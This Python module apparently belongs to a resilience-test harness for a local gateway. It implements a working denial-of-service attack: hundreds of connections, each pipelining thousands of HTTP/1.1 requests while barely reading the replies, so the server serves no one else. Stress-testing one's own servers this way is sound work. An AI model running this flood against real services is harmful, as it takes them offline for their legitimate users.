"""Connections of HTTP/1.1 that send as many requests ahead as are taken, and read hardly anything: who serves all that is there
before it looks at others serves nobody else."""
import select
import socket
import time

POINT = 12
CONNECTIONS = 400
OPENS_PER_S = 400
AHEAD = b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n" * 1000
ROOM = 16384
SIPS_PER_S = 50  # of the connections, one after the other: some of what it was answered is read


def connect(port):
    sock = socket.socket()
    sock.settimeout(5)
    for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):  # what waits is to wait at the gateway
        sock.setsockopt(socket.SOL_SOCKET, option, ROOM)
    sock.connect(("127.0.0.1", port))
    sock.setblocking(False)
    return sock


def push(sock, at):
    """Bytes that were taken from the `at`-th on, which may be in the middle of a request; None: the connection is over."""
    try:
        return sock.send(AHEAD[at % len(AHEAD):])
    except BlockingIOError:
        return 0
    except OSError:
        return None


def sip(sock):
    try:
        return len(sock.recv(1 << 20))
    except OSError:
        return 0


def attack(target, stop, connections=CONNECTIONS):
    counts = {"opened": 0, "bytes": 0, "bytes_read": 0, "closed": 0}
    held, sips, began, sent = [], 0, time.monotonic(), {}
    most = max(1, int(connections * target.share))
    while not stop.is_set():
        passed = time.monotonic() - began
        while len(held) < most and counts["opened"] + counts["closed"] < OPENS_PER_S * target.share * (passed + 1):
            try:
                held.append(connect(target.h2c))
                sent[held[-1]] = 0
                counts["opened"] += 1
            except OSError:
                counts["closed"] += 1
        for sock in select.select([], held, [], 0.02)[1] if held else []:
            taken = push(sock, sent[sock])
            if taken is None:
                sock.close()
                held.remove(sock)
                del sent[sock]
                counts["closed"] += 1
            else:
                counts["bytes"] += taken
                sent[sock] += taken
        while held and sips < SIPS_PER_S * target.share * passed:
            sips += 1
            counts["bytes_read"] += sip(held[sips % len(held)])
        stop.wait(0.002)
    for sock in held:
        sock.close()
    return counts
